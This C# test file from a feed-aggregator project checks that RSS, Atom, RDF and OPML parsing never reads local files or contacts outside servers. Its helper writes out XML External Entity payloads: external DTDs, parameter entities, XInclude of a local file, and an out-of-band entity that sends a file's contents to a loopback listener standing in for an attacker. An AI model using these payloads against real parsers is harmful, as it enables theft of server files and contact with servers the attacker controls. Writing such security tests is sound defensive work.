using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.Time.Testing;

namespace FeedHub.Scheduling;

/// <summary>Documents that name files and servers which their reader is to open.</summary>
public sealed class ExternalReferenceTests : IDisposable
{
    private const string Canary = "canary-5f0c9f6e";

    private readonly FakeTimeProvider _clock = new(new DateTimeOffset(2026, 11, 2, 8, 0, 0, TimeSpan.Zero));
    private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
    private readonly string _file = Path.GetTempFileName();

    public void Dispose()
    {
        _listener.Dispose();
        File.Delete(_file);
    }

    [Theory]
    [InlineData("rss", "utf-8")]
    [InlineData("rss", "utf-16")]
    [InlineData("rss", "utf-32")]
    [InlineData("atom", "utf-8")]
    [InlineData("atom", "utf-16BE")]
    [InlineData("rdf", "utf-8")]
    [InlineData("opml", "utf-8")] // no feed, and read as far as to know that
    public async Task BAD_20_PP_21_No_file_is_read_and_no_connection_opened_whatever_a_document_names(string format, string encoding)
    {
        await File.WriteAllTextAsync(_file, Canary, TestContext.Current.CancellationToken);
        _listener.Start();
        var codec = Encoding.GetEncoding(encoding);
        await using var origin = await OriginServer.StartAsync(clock: _clock);
        origin.Serve("/feed", new OriginDocument((byte[])[.. codec.GetPreamble(), .. codec.GetBytes(Document(format, encoding, $"http://{_listener.LocalEndpoint}", new Uri(_file)))]));
        await using var hub = await SimulatedHub.StartAsync(_clock, [new { url = origin.UrlOf("/feed").AbsoluteUri }]);

        await hub.VisitDueAsync(all: false);
        await hub.VisitNextAsync();

        var state = await hub.StateAsync();
        var latest = await hub.Store.ReadLatestAsync(10, TestContext.Current.CancellationToken);
        Assert.Equal(format == "opml" ? (0, "not-a-feed") : (1, "not-modified"), (state.EntryCount, state.LastOutcome));
        Assert.DoesNotContain(Canary, JsonSerializer.Serialize(latest) + JsonSerializer.Serialize(state.Profile), StringComparison.Ordinal);
        Assert.False(_listener.Pending()); // nobody so much as knocked
        Assert.All(origin.Requests, request => Assert.Equal("/feed", request.Path));
    }

    [Fact]
    public void BAD_20_The_listener_hears_who_knocks()
    {
        _listener.Start();
        using var client = new TcpClient();
        client.Connect((IPEndPoint)_listener.LocalEndpoint);

        Assert.True(_listener.Pending());
    }

    private static string Document(string format, string encoding, string server, Uri file)
    {
        var prolog = $"""
            <?xml version="1.0" encoding="{encoding}"?>
            <?xml-stylesheet type="text/xsl" href="{server}/sheet.xsl"?><?xml-model href="{server}/model.rnc"?>
            <!DOCTYPE x PUBLIC "-//x//y" "{server}/outer.dtd" [
              <!ENTITY % parameter SYSTEM "{server}/parameter"> %parameter;
              <!ENTITY % file SYSTEM "{file}"> <!ENTITY % sent "<!ENTITY send SYSTEM '{server}/?%file;'>"> %sent;
              <!ENTITY server SYSTEM "{server}/entity"> <!ENTITY file SYSTEM "{file}">
              <!NOTATION gif SYSTEM "{server}/notation"> <!ENTITY picture SYSTEM "{server}/picture.gif" NDATA gif>
            ]>
            """;
        var included = $"""
            <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{server}/include"/>
            <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>
            """;
        const string Text = "One &file;&server;&send;";
        var root = $"""xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {server}/schema.xsd" xsi:noNamespaceSchemaLocation="{server}/schema.xsd" xml:base="{server}/base/" """;
        return prolog + format switch
        {
            "rss" => $"<rss version='2.0' {root}><channel><title>{Text}</title>{included}<item><guid isPermaLink='false'>1</guid><title>{Text}</title><link>{server}/article</link><description>{Text}{included}&lt;img src='{server}/i.png'></description><enclosure url='{server}/e.mp3' type='audio/mpeg' length='1'/></item></channel></rss>",
            "atom" => $"<feed xmlns='http://www.w3.org/2005/Atom' {root}><title>{Text}</title>{included}<entry><id>urn:example:1</id><title>{Text}</title><content src='{server}/content' type='text/html'/><summary type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>{Text}{included}<iframe src='{server}/frame'/></div></summary></entry></feed>",
            "rdf" => $"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/' {root}><channel rdf:about='{server}/'><title>{Text}</title>{included}</channel><item rdf:about='{server}/1' rdf:resource='{server}/resource'><title>{Text}</title><description>{Text}</description></item></rdf:RDF>",
            _ => $"<opml version='2.0' {root}><body><outline type='rss' text='{Text}' xmlUrl='{server}/feed'/>{included}</body></opml>",
        };
    }
}
